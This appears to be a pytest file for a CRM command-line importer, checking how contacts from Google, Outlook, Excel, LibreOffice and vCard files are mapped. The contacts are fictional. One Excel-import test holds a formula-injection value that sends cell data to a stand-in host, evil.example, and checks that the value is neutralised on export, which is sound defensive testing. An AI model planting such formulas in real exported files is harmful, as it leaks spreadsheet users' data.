"""Files as address books, phones and office suites write them, imported through the CLI.

The files in tests/data/import are byte-exact imitations (fictional people): Google
Contacts' current and older CSV exports, a Dutch Outlook export saved again by Excel, a
list typed in Dutch Excel, an XLSX written by LibreOffice Calc, and vCards 2.1 (Android),
3.0 (iPhone) and 4.0 (Nextcloud).
"""

from __future__ import annotations

import csv
import io
import sqlite3
from contextlib import closing, redirect_stderr, redirect_stdout
from dataclasses import dataclass
from pathlib import Path

import pytest

from techzone_crm.cli import EXIT_OK, main

DATA = Path(__file__).resolve().parents[1] / "data" / "import"


@dataclass(frozen=True)
class Imported:
    """A person as the database holds them after the import."""

    title: str
    given: str
    prefix: str
    family: str
    organisation: str
    role: str
    emails: frozenset[str]
    phones: frozenset[str]


def call(*args: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    with redirect_stdout(out), redirect_stderr(err):
        code = main(list(args))
    return code, out.getvalue(), err.getvalue()


def imported(db: Path) -> dict[str, Imported]:
    """Everyone in ``db`` by family name."""
    found: dict[str, Imported] = {}
    with closing(sqlite3.connect(db)) as conn:
        people = conn.execute(
            "SELECT p.id, p.title, p.given_name, p.name_prefix, p.family_name, "
            "coalesce(o.name, ''), coalesce(a.role, '') FROM person p "
            "LEFT JOIN affiliation a ON a.person_id = p.id "
            "LEFT JOIN organisation o ON o.id = a.organisation_id"
        ).fetchall()
        for pid, title, given, prefix, family, organisation, role in people:
            emails = conn.execute("SELECT address FROM email_address WHERE person_id = ?", (pid,))
            phones = conn.execute("SELECT number FROM phone_number WHERE person_id = ?", (pid,))
            found[family] = Imported(
                title, given, prefix, family, organisation, role,
                frozenset(e for (e,) in emails), frozenset(n for (n,) in phones),
            )  # fmt: skip
    return found


def scalar(db: Path, sql: str, *args: object) -> object:
    with closing(sqlite3.connect(db)) as conn:
        return conn.execute(sql, args).fetchone()[0]


def helices(db: Path) -> dict[str, str]:
    with closing(sqlite3.connect(db)) as conn:
        return dict(conn.execute("SELECT name, helix FROM organisation"))


def run_import(db: Path, name: str, *options: str) -> str:
    code, out, err = call("--db", str(db), "import", str(DATA / name), *options)
    assert code == EXIT_OK, out + err
    return out


def person(
    given: str, prefix: str, family: str, organisation: str, role: str,
    emails: set[str], phones: set[str], title: str = "",
) -> Imported:  # fmt: skip
    return Imported(
        title, given, prefix, family, organisation, role, frozenset(emails), frozenset(phones)
    )


def test_google_contacts_csv(db_path: Path) -> None:
    out = run_import(db_path, "google-contacts.csv")
    assert "First Name → given_name" in out and "Organization Title → role" in out
    people = imported(db_path)
    assert len(people) == 5
    # Dutch users' tussenvoegsel is in Google's "Middle Name".
    assert people["Veen"] == person(
        "Sanne", "van der", "Veen", "Gemeente Emmen", "Beleidsadviseur economie",
        {"s.vanderveen@emmen.example"}, {"+31591685412", "+31621436587"},
    )  # fmt: skip
    assert people["Bakker"] == person(
        "Jeroen", "", "Bakker", "Provincie Drenthe", "Gedeputeerde",
        {"j.bakker@drenthe.example", "jeroen.bakker@mail.example"}, {"+31612345678"},
    )  # fmt: skip
    assert people["Dubois"] == person(
        "Émilie", "", "Dubois", "Hanzehogeschool Groningen", "Lector energietransitie",
        {"e.dubois@hanze.example"}, {"+31505951234"}, title="dr.",
    )  # fmt: skip
    # Google puts several values of one label in one cell, separated by " ::: ".
    assert people["Vries-Smit"] == person(
        "Anne-Marie", "de", "Vries-Smit", "Stichting Noorderwind", "Directeur",
        {"a.devries@noorderwind.example"}, {"+31503112233", "+31503112200"},
    )  # fmt: skip
    assert people["Oosterhuis"].organisation == ""
    assert people["Oosterhuis"].phones == {"+31655443322"}
    notes = scalar(db_path, "SELECT notes FROM person WHERE family_name = 'Bakker'")
    assert notes == "Ontmoet op de Dag van de Regio.\nVolgt het dossier waterstof."
    assert helices(db_path) == {
        "Gemeente Emmen": "government",
        "Provincie Drenthe": "government",
        "Hanzehogeschool Groningen": "education",
        "Stichting Noorderwind": "civil_society",
    }


@pytest.mark.parametrize(
    ("name", "family", "prefix"),
    [
        ("google-contacts.csv", "Veen", "van der"),
        ("google-contacts-legacy.csv", "Horst", "ter"),
        ("outlook-nl.csv", "Hul", "van 't"),
    ],
)
def test_the_middle_name_of_an_address_book_is_the_tussenvoegsel(
    db_path: Path, name: str, family: str, prefix: str
) -> None:
    out = run_import(db_path, name)
    assert "→ name_prefix" in out
    assert imported(db_path)[family].prefix == prefix


def test_google_contacts_older_utf16_layout(db_path: Path) -> None:
    out = run_import(db_path, "google-contacts-legacy.csv")
    assert "Given Name → given_name" in out
    people = imported(db_path)
    assert set(people) == {"Hoekstra", "Horst", "Brinkman"}
    assert people["Hoekstra"] == person(
        "Wietske", "", "Hoekstra", "Provinsje Fryslân", "Beleidsmedewerker energie",
        {"w.hoekstra@fryslan.example"}, {"+31582925925"},
    )  # fmt: skip
    assert (people["Horst"].given, people["Horst"].prefix) == ("Thijs", "ter")
    assert people["Horst"].organisation == "Ter Horst Bouw B.V."
    assert people["Brinkman"].phones == {"+31591314253"}


def test_outlook_export_saved_by_dutch_excel(db_path: Path) -> None:
    out = run_import(db_path, "outlook-nl.csv")
    assert "Voornaam → given_name" in out and "Bedrijf → organisation" in out
    people = imported(db_path)
    assert len(people) == 5
    assert people["Hul"] == person(
        "Anneke", "van 't", "Hul", "Waterschap Hunze en Aa's", "Adviseur omgevingsmanagement",
        {"a.vanthul@hunzeenaas.example"}, {"+31598693800", "+31641234567"},
    )  # fmt: skip
    assert people["Smeenge"] == person(
        "Gerrit", "", "Smeenge", "Gemeente Coevorden", "Wethouder economische zaken",
        {"g.smeenge@coevorden.example"}, {"+31524598598"}, title="mr.",
    )  # fmt: skip
    assert people["Brüggemann"] == person(
        "Zoë", "", "Brüggemann", "Grünwald Techniek GmbH", "Geschäftsführerin",
        {"z.brueggemann@gruenwald.example"}, {"+495931123456"},
    )  # fmt: skip
    assert people["Hoekstra"].title == "prof. dr."
    assert people["Hoekstra"].emails == {"j.hoekstra@rug.example", "jose.hoekstra@mail.example"}
    assert people["Hoekstra"].phones == {"+31503631234", "+31505252525"}
    assert people["Groot-Ekkelenkamp"].prefix == "de"
    assert people["Groot-Ekkelenkamp"].organisation == "Coöperatie Energie Eelde"
    notes = scalar(db_path, "SELECT notes FROM person WHERE family_name = 'Smeenge'")
    assert str(notes).splitlines() == [
        "Portefeuille: economie, grensoverschrijdende samenwerking",
        "Secretaresse: Ineke, toestel 212",
    ]


def test_a_list_typed_in_dutch_excel(db_path: Path, tmp_path: Path) -> None:
    out = run_import(db_path, "excel-nl.csv")
    assert "Tussenvoegsel → name_prefix" in out and "Postcode" in out.splitlines()[-2]
    people = imported(db_path)
    assert len(people) == 5  # the empty last row is no person
    assert people["Wubbels"] == person(
        "Henk", "", "Wubbels", "Gemeente Emmen", "Projectleider Atalanta",
        {"h.wubbels@emmen.example"}, {"+31591123456"},
    )  # fmt: skip
    assert (people["Boer"].given, people["Boer"].prefix) == ("Marieke", "de")
    assert (people["Dijk"].prefix, people["Dijk"].phones) == ("van", {"+31505951234"})
    assert people["Scholten"].phones == {"+31591612233"}
    assert people["Mulder"].given == "Hélène"
    # The formula is kept as the text it is, and neutralised again when exported.
    formula = '=HYPERLINK("http://evil.example/?q="&A2;"Klik hier")'
    assert scalar(db_path, "SELECT notes FROM person WHERE family_name = 'Boer'") == formula
    assert "—" in str(scalar(db_path, "SELECT notes FROM person WHERE family_name = 'Mulder'"))
    out_file = tmp_path / "back.csv"
    code, _, err = call(
        "--db", str(db_path), "export", "people", "--format", "csv", "-o", str(out_file),
        "--columns", "family_name,phone",
    )  # fmt: skip
    assert code == EXIT_OK, err
    rows = list(csv.reader(io.StringIO(out_file.read_text("utf-8"), newline="")))
    assert ["Wubbels", "0591 123 456"] in rows  # phones come out formatted


def test_an_xlsx_made_by_libreoffice(db_path: Path) -> None:
    assert b"LibreOffice" in _member(DATA / "office.xlsx", "docProps/app.xml")
    out = run_import(db_path, "office.xlsx")
    assert "Helix → helix" in out
    assert "Laatste contact" in out  # a date column, ignored
    people = imported(db_path)
    assert {p.family: p.phones for p in people.values()} == {
        "Nijboer": {"+31592366911"},  # a number cell: the leading 0 was lost
        "Molen": {"+31612345678"},
        "Jänsch": {"+31591123456"},
        "Cate": {"+31652525252"},
    }
    assert people["Molen"].prefix == "van der"
    assert people["Cate"] == person(
        "Femke", "ten", "Cate", "Vereniging Dorpsbelangen Nieuw-Amsterdam", "Voorzitter",
        {"femke.tencate@mail.example"}, {"+31652525252"},
    )  # fmt: skip
    assert helices(db_path) == {
        "Gemeente Assen": "government",
        "Molen Agri Innovatie B.V.": "business",
        "Drenthe College": "education",
        "Vereniging Dorpsbelangen Nieuw-Amsterdam": "civil_society",
    }


def test_an_android_vcard_21_with_quoted_printable(db_path: Path) -> None:
    run_import(db_path, "phone-android.vcf")
    people = imported(db_path)
    assert people["Müller"] == person(
        "Jürgen", "", "Müller", "Landkreis Emsland", "Wirtschaftsförderer",
        {"j.mueller@emsland.example"}, {"+491712345678", "+49593140440"},
    )  # fmt: skip
    assert people["Heuvel"] == person(
        "Roel", "van den", "Heuvel", "Gemeente Emmen", "Accountmanager bedrijven",
        {"roel.vdheuvel@mail.example", "r.vandenheuvel@emmen.example"},
        {"+31611223344", "+31591685500", "+31591123321"},
    )  # fmt: skip
    assert people["Hoekstra-Dijkstra"].organisation == "Wetterskip Fryslân"
    notes = scalar(db_path, "SELECT notes FROM person WHERE family_name = 'Hoekstra-Dijkstra'")
    assert str(notes).endswith("over de pilot met de coöperatie.")
    rooijen = people["Rooijen-Brouwer"]
    assert (rooijen.given, rooijen.prefix) == ("Noël", "van")
    assert {"+31687654321", "+31503678900"} <= rooijen.phones
    with closing(sqlite3.connect(db_path)) as conn:
        kinds = dict(
            conn.execute(
                "SELECT number, kind FROM phone_number WHERE number IN (?, ?)",
                ("+491712345678", "+49593140440"),
            )
        )
    assert kinds == {"+491712345678": "mobile", "+49593140440": "work"}


def test_an_iphone_vcard_30(db_path: Path) -> None:
    run_import(db_path, "phone-iphone.vcf")
    people = imported(db_path)
    assert len(people) == 3
    berg = people["Berg"]
    assert (berg.title, berg.given, berg.prefix) == ("dr.", "Jan", "van den")
    assert berg.organisation == "Rijksuniversiteit Groningen"
    assert berg.role == "Hoogleraar regionale economie"
    assert berg.emails == {"j.vandenberg@rug.example", "jan.berg@mail.example"}
    assert berg.phones == {"+31612345678", "+31503631234", "+31503639999"}
    assert people["Kaya"].organisation == "Gemeente Hoogeveen"
    assert people["Çelik"] == person(
        "Mehmet", "", "Çelik", "Çelik & Zonen Logistiek", "Eigenaar",
        {"mehmet@celiklogistiek.example"}, {"+31591654321", "+31591651111"},
    )  # fmt: skip
    notes = scalar(db_path, "SELECT notes FROM person WHERE family_name = 'Berg'")
    assert str(notes).splitlines() == [
        "Ontmoet op het Noordelijk Innovatiecongres, 2024.",
        "Wil meedenken over de regiodeal.",
    ]


def test_a_vcard_40_with_tel_uris(db_path: Path) -> None:
    run_import(db_path, "contacts-v4.vcf")
    people = imported(db_path)
    assert people["Dijk"] == person(
        "Ingrid", "van", "Dijk", "Provincie Groningen", "Programmamanager Nij Begun",
        {"i.vandijk@provinciegroningen.example"}, {"+31612345678", "+31503164911"},
    )  # fmt: skip
    odegard = people["Ødegård"]
    assert (odegard.given, odegard.organisation) == ("Søren", "Energy Valley Noord")
    assert odegard.emails == {"s.odegard@energyvalley.example", "soren@mail.example"}
    assert odegard.phones == {"+31501234567", "+31623456789"}


@pytest.mark.parametrize(
    "name",
    [
        "google-contacts.csv",
        "google-contacts-legacy.csv",
        "outlook-nl.csv",
        "excel-nl.csv",
        "office.xlsx",
        "phone-android.vcf",
        "phone-iphone.vcf",
        "contacts-v4.vcf",
    ],
)
def test_importing_a_real_world_file_twice_adds_nobody(db_path: Path, name: str) -> None:
    run_import(db_path, name)
    tables = ("person", "email_address", "phone_number", "affiliation", "organisation")
    before = [scalar(db_path, f"SELECT count(*) FROM {t}") for t in tables]
    run_import(db_path, name)
    assert [scalar(db_path, f"SELECT count(*) FROM {t}") for t in tables] == before


def _member(path: Path, name: str) -> bytes:
    import zipfile

    with zipfile.ZipFile(path) as archive:
        return archive.read(name)
